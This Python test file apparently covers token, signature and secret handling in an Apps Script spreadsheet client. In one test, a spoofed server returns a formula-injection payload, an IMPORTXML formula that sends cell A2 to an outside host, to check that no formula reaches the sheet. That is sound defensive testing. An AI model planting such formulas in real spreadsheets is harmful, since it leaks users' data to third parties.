"""Tokens, signatures and secrets: what is wrong with them is said, and none is shown to anybody."""

from __future__ import annotations

import json

from tests.apps_script.internet import Asked, Reply
from tests.apps_script.scene import Scene

ROWS = [["url"], ["https://example.org/1"], ["https://example.org/2"]]


def test_a_token_that_is_wrong_is_said_to_be_so(scene: Scene) -> None:
    scene.settings["AAFAI_SIGNING_TOKEN"] = "aafai_0a1b2c3d_" + "x" * 43
    script = scene.script(ROWS)

    script.run("runSelectedRows")

    assert script.column("status") == ["failed", "failed"]
    assert script.column("result")[0].startswith("The bus refuses the token (bad_signature)")
    assert scene.jobs() == []


def test_a_signature_from_before_the_start_of_the_bus_is_made_anew(scene: Scene) -> None:
    scene.begin()
    script = scene.script(ROWS)

    def restarted() -> None:
        scene.stage.clock.advance(2)
        scene.start()

    script.meanwhile = [lambda: None, lambda: None, restarted]
    script.run("runSelectedRows")

    sent = [one for one in scene.internet.asked if one.target == "/inbound"]
    assert len(sent) == 2
    assert sent[0].headers["Authorization"] != sent[1].headers["Authorization"]
    assert script.column("status") == ["pending", "pending"]


def test_a_token_that_would_be_sent_is_not_sent_over_plain_http(scene: Scene) -> None:
    scene.settings |= {"AAFAI_SIGNING_TOKEN": "", "AAFAI_TOKEN": scene.door.token()}
    script = scene.script(ROWS)

    script.run("runSelectedRows")

    assert script.column("result")[0].startswith("AAFAI_TOKEN is not sent over plain HTTP.")
    assert not any("Bearer aafai" in str(one.headers) for one in scene.internet.asked)


def test_the_token_that_signs_is_never_sent(scene: Scene) -> None:
    script = scene.script(ROWS)

    script.run("runSelectedRows")

    assert not any(scene.token.split("_")[2] in str(one.headers) + one.url for one in scene.internet.asked)
    assert "ya29" not in "".join(str(one.headers) for one in scene.internet.asked if ":8000" in one.url)


def test_a_token_that_is_missing_is_asked_for(scene: Scene) -> None:
    scene.settings["AAFAI_SIGNING_TOKEN"] = ""
    script = scene.script(ROWS)

    script.run("runSelectedRows")

    assert script.column("status") == ["failed", "failed"]
    assert script.column("result")[0].endswith("A bearer token is required. Check AAFAI_SIGNING_TOKEN.")
    assert scene.jobs() == []


def test_a_clock_that_is_wrong_is_said_with_the_time_of_the_bus(scene: Scene) -> None:
    scene.begin()
    script = scene.script(ROWS)
    scene.stage.clock.advance(1200)

    script.run("runSelectedRows")

    assert script.column("status")[0].startswith("waiting: The bus answers: The request was signed ")
    assert "the bus's clock says 20" in script.column("status")[0]
    assert scene.jobs() == []


def test_a_secret_of_pushes_that_is_missing_is_named(scene: Scene) -> None:
    scene.settings["AAFAI_PUSH_URL"] = "https://script.google.com/macros/s/AKfy/exec"
    script = scene.script(ROWS)

    script.run("runSelectedRows")

    assert script.column("result")[0].startswith("The setting AAFAI_PUSH_SECRET is missing")
    assert scene.jobs() == []


def test_whoever_answers_in_the_place_of_the_bus_writes_no_formula(scene: Scene) -> None:
    evil = '=IMPORTXML("https://example.org/?" & A2, "//a")'

    def answered(asked: Asked) -> Reply:
        job = {"job_id": evil, "status": evil, "result": evil, "error": evil, "code": evil}
        told = {"accepting": True, "job_ids": [evil, evil], "jobs": [job, {**job, "status": "complete"}]}
        return 200, {"Content-Type": "application/json"}, json.dumps(told).encode()

    scene.settings |= {"AAFAI_URL": "https://bus.example", "AAFAI_INSTANCE": ""}
    scene.internet.places["bus.example"] = answered
    script = scene.script(ROWS)

    script.run("runSelectedRows")
    script.wait(2)

    assert script.column("job") == [evil, evil]
    assert script.state()["sheets"]["Pages"]["formulas"] == 0
